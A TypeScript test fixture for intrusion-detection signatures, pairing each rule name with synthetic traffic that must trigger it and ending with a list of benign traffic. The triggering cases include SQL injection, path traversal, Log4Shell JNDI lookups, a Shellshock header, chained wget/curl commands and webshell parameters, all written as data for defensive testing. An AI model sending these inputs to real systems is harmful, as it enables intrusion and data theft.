// For signatures of the starter set where it is simple: traffic that must hit each of them, by the name of the signature.

import type { Traffic } from './capture.ts'

const tcp = (isFromInside: boolean, port: number, request: string, answer = ''): Traffic => ({
  protocol: 'tcp',
  isFromInside,
  port,
  request: Buffer.from(request, 'latin1'),
  answer: Buffer.from(answer, 'latin1'),
})

const udp = (isFromInside: boolean, port: number, request: string): Traffic => ({
  protocol: 'udp',
  isFromInside,
  port,
  request: Buffer.from(request, 'latin1'),
})

interface Parts {
  readonly method?: string
  readonly headers?: string
  readonly body?: string
}

function http(path: string, { method = 'GET', headers = '', body = '' }: Parts): string {
  const length = body === '' ? '' : `Content-Length: ${body.length}\r\n`
  return `${method} ${path} HTTP/1.1\r\nHost: shop.example\r\n${headers}${length}\r\n${body}`
}

const page = (content: string, headers = ''): string =>
  `HTTP/1.1 200 OK\r\n${headers}Content-Length: ${content.length}\r\n\r\n${content}`

/** A request to a web server inside. */
const inbound = (path: string, parts: Parts = {}): Traffic => tcp(false, 80, http(path, parts), page('ok'))
const outbound = (path: string, parts: Parts = {}): Traffic => tcp(true, 80, http(path, parts), page('ok'))
const agent = (name: string): Parts => ({ headers: `User-Agent: ${name}\r\n` })
const posted = (body: string): Traffic => inbound('/form', { method: 'POST', body })
/** What a web server inside gives away. */
const given = (content: string): Traffic => tcp(false, 80, http('/', {}), page(content))

function lookup(name: string): Traffic {
  const labels = name.split('.').map((label) => String.fromCharCode(label.length) + label)
  return udp(true, 53, `\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00${labels.join('')}\x00\x00\x01\x00\x01`)
}

/** The first message of a TLS client that asks for the name. */
function hello(name: string): Traffic {
  const part = (bytes: number, content: string): string =>
    [...Array(bytes).keys()]
      .map((at) => String.fromCharCode((content.length >> (8 * (bytes - 1 - at))) & 255))
      .join('') + content
  const serverName = `\x00\x00${part(2, part(2, `\x00${part(2, name)}`))}`
  const body = `\x03\x03${'r'.repeat(32)}\x00${part(2, '\xc0\x2f\x00\x2f')}${part(1, '\x00')}${part(2, serverName)}`
  return tcp(true, 443, `\x16\x03\x01${part(2, `\x01${part(3, body)}`)}`)
}

export const cases: Readonly<Record<string, Traffic>> = {
  'WEB Path traversal to the password file': inbound('/a?f=../../../../etc/passwd'),
  'WEB Encoded path traversal (CVE-2021-41773)': inbound('/cgi-bin/.%2e/.%2e/bin/x'),
  'WEB Read of the environment of a process': inbound('/?f=/proc/self/environ'),
  'WEB Null byte in a path': inbound('/a%00.jpg'),
  'WEB SQL injection: UNION SELECT': inbound('/?id=1%20UNION%20ALL%20SELECT%20a'),
  'WEB SQL injection: always true condition': inbound("/?id=x'%20or%201=1"),
  'WEB SQL injection: schema tables': inbound('/?id=information_schema.tables'),
  'WEB SQL injection: delay of MySQL': inbound('/?id=1%20and%20sleep(5)'),
  'WEB SQL injection: delay of SQL Server': inbound("/?id=1%20waitfor%20delay%20'0:0:5'"),
  'WEB SQL injection: delay of PostgreSQL': inbound('/?id=pg_sleep(5)'),
  'WEB SQL injection: command shell': inbound('/?id=xp_cmdshell'),
  'WEB SQL injection: write of a file': inbound('/?id=into%20outfile'),
  'WEB SQL injection in a form: UNION SELECT': posted('q=union select a from b'),
  'WEB Script in a parameter': inbound('/?q=<script>'),
  'WEB Event handler in a parameter': inbound('/?q=onerror=1'),
  'WEB Script address in a parameter': inbound('/?q=javascript:1'),
  'WEB External entity in XML': posted('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>'),
  'WEB Template injection probe': inbound('/?q={{7*7}}'),
  'WEB PHP wrapper: input': inbound('/?f=php://input'),
  'WEB PHP wrapper: filter': inbound('/?f=php://filter/x'),
  'WEB PHP wrapper: expect': inbound('/?f=expect://id'),
  'WEB Inclusion of a remote file': inbound('/?page=http://x.example/y'),
  'WEB Command chained in a parameter': inbound('/?a=b;wget%20x'),
  'WEB Download chained in a parameter': inbound('/?a=b;curl%20x'),
  'WEB Shell called in a parameter': inbound('/?a=/bin/sh'),
  'WEB Request for the metadata of a cloud machine': inbound('/?u=http://169.254.169.254/x'),
  'WEB Serialised Java object in a request': posted('a=\xac\xed\x00\x05sr'),
  'EXPLOIT JNDI lookup in a path (CVE-2021-44228)': inbound('/$' + '{jndi:ldap://x}'),
  'EXPLOIT JNDI lookup in a header (CVE-2021-44228)': inbound('/', { headers: 'X-A: $' + '{jndi:ldap://x}\r\n' }),
  'EXPLOIT JNDI lookup in a body (CVE-2021-44228)': posted('a=$' + '{jndi:ldap://x}'),
  'EXPLOIT Function in a header for a shell (CVE-2014-6271)': inbound('/', { headers: 'X-A: () { :; }; id\r\n' }),
  'EXPLOIT Class loader of Spring (CVE-2022-22965)': posted('class.module.classLoader.resources=x'),
  'EXPLOIT Expression in the content type of Struts (CVE-2017-5638)': inbound('/', {
    headers: "Content-Type: %{(#a='multipart').(@ognl.OgnlContext@x)}\r\n",
  }),
  'EXPLOIT Test script of PHPUnit (CVE-2017-9841)': inbound('/vendor/phpunit/src/Util/PHP/eval-stdin.php'),
  'EXPLOIT Function call in ThinkPHP': inbound('/?s=a/invokefunction&function=call_user_func_array'),
  'EXPLOIT Form of Drupal (CVE-2018-7600)': inbound('/user/register?element_parents=a'),
  'EXPLOIT Management of BIG-IP (CVE-2020-5902)': inbound('/tmui/login.jsp/..;/tmui/x'),
  'EXPLOIT Command over the REST interface of BIG-IP (CVE-2022-1388)': inbound('/mgmt/tm/util/bash'),
  'EXPLOIT File of a VPN gateway (CVE-2018-13379)': inbound('/remote/fgt_lang?lang=/../../x'),
  'EXPLOIT Router set up from outside (GPON)': inbound('/GponForm/diag_Form?images/'),
  'EXPLOIT Router set up from outside (HNAP1)': inbound('/HNAP1/'),
  'WEB Actuator that shows the memory': inbound('/actuator/heapdump'),
  'WEB Repository of the source code': inbound('/.git/config'),
  'WEB Settings with passwords': inbound('/app/.env'),
  'WEB Key of SSH': inbound('/.ssh/id_rsa'),
  'WEB Page that shows the PHP settings': inbound('/phpinfo.php'),
  'WEB Management of Tomcat': inbound('/manager/html'),
  'WEBSHELL Well-known name: c99': inbound('/up/c99.php'),
  'WEBSHELL Command in a parameter': inbound('/a.php?cmd=id'),
  'WEBSHELL PHP code uploaded': posted('<?php eval($x)'),
  'WEB Answer with the identity of root': given('uid=0(root) gid=0(root) groups=0(root)'),
  'WEB Answer with the password file': given('root:x:0:0:root:/root:/bin/bash'),
  'WEB Answer with a private key': given('-----BEGIN RSA PRIVATE KEY-----'),
  'WEB Answer with a dump of a database': given('-- MySQL dump 10.13'),
  'WEB Answer with a list of a folder': given('<html><title>Index of /a</title>'),
  'SCAN sqlmap at work': inbound('/', agent('sqlmap/1.7')),
  'SCAN Nikto at work': inbound('/', agent('Mozilla/5.00 (Nikto/2.1.6)')),
  'SCAN Nmap scripts at work': inbound('/', agent('Mozilla/5.0 (compatible; Nmap Scripting Engine)')),
  'SCAN masscan at work': inbound('/', agent('masscan/1.3')),
  'SCAN gobuster at work': inbound('/', agent('gobuster/3.6')),
  'SCAN WPScan at work': inbound('/', agent('WPScan v3')),
  'SCAN SNMP with the community public': udp(false, 161, '0&\x02\x01\x01\x04\x06public\xa0\x19'),
  'SCAN Telephone scanner': udp(false, 5060, 'OPTIONS sip:a\r\nUser-Agent: friendly-scanner\r\n\r\n'),
  'LOGIN Anonymous FTP': tcp(false, 21, 'USER anonymous\r\n', '331 Password\r\n'),
  'LOGIN Telnet with a factory password': tcp(false, 23, 'root\r\nxc3511\r\n'),
  'LOGIN Factory password at a web server: admin and admin': inbound('/', {
    headers: 'Authorization: Basic YWRtaW46YWRtaW4=\r\n',
  }),
  'DOWNLOAD Program with the name of a document': outbound('/bill.pdf.exe'),
  'DOWNLOAD HTML application': outbound('/a.hta'),
  'DOWNLOAD Script of PowerShell': outbound('/a.ps1'),
  'DOWNLOAD By PowerShell': outbound('/', agent('Mozilla/5.0 (Windows NT) WindowsPowerShell/5.1')),
  'DOWNLOAD By certutil': outbound('/', agent('CertUtil URL Agent')),
  'SHELLCODE Long row of empty instructions': tcp(false, 9_999, '\x90'.repeat(64)),
  'TROJAN Command line of Windows sent out': tcp(
    true,
    8_000,
    'Microsoft Windows [Version 10.0]\r\n(c) Microsoft Corporation.',
  ),
  'TROJAN Check-in of Empire': outbound('/admin/get.php', { headers: 'Cookie: session=abc\r\n' }),
  'TROJAN Check-in of a beacon': outbound('/submit.php?id=12345', { method: 'POST', body: 'x' }),
  'TROJAN Connection to port 4444': tcp(true, 4_444, ''),
  'DNS Name of a dynamic service: duckdns.org': lookup('a.duckdns.org'),
  'DNS Name of the Tor network': lookup('abcdef.onion'),
  'TUNNEL To the inside through ngrok.io': hello('a.ngrok.io'),
  'MINING Subscription at a pool': tcp(true, 3_333, '{"id":1,"method":"mining.subscribe","params":[]}\n'),
  'MINING Sign-in of Monero at a pool': tcp(
    true,
    3_333,
    '{"method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6"}}\n',
  ),
  'MINING Pool supportxmr.com': lookup('pool.supportxmr.com'),
  'LOOKUP Own address at api.ipify.org': lookup('api.ipify.org'),
  'POLICY DNS over HTTPS at dns.google': hello('dns.google'),
  'POLICY Proxy outside asked for a way (SOCKS 5)': tcp(true, 1_080, '\x05\x01\x00'),
  'POLICY File sharing (BitTorrent)': tcp(true, 6_881, `\x13BitTorrent protocol${'\x00'.repeat(8)}`),
  'POLICY Password sent without encryption': outbound('/', { headers: 'Authorization: Basic YTpi\r\n' }),
  'PROTOCOL Encryption on a port for clear text': { ...hello('example.org'), port: 80 },
  'UPLOAD File service transfer.sh': hello('transfer.sh'),
  'UPLOAD By rclone': outbound('/', agent('rclone/v1.60')),
  'AMPLIFIER List of clients of a time server': udp(false, 123, `\x17\x00\x03\x2a${'\x00'.repeat(4)}`),
  'UNWANTED Software of opencandy.com': lookup('cdn.opencandy.com'),
}

/** What people do all day; it must hit nothing. */
export const ordinary: readonly Traffic[] = [
  inbound('/', agent('Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0')),
  inbound('/search?q=union+station+selection&page=2'),
  inbound('/orders?sort=date&or=1&id=42'),
  inbound('/articles/how-to-sleep(well)'),
  posted('name=Anna&comment=I+like+it%3B+thanks'),
  given('<html><title>Shop</title><script src="/a.js"></script></html>'),
  outbound('/', agent('curl/8.5.0')),
  outbound('/files/report.pdf'),
  outbound('/setup.exe'),
  lookup('www.example.org'),
  lookup('mail.example.com'),
  hello('www.example.org'),
  tcp(true, 587, 'EHLO a.example\r\n', '220 mail.example ESMTP\r\n'),
  udp(true, 123, `\x23${'\x00'.repeat(47)}`),
]
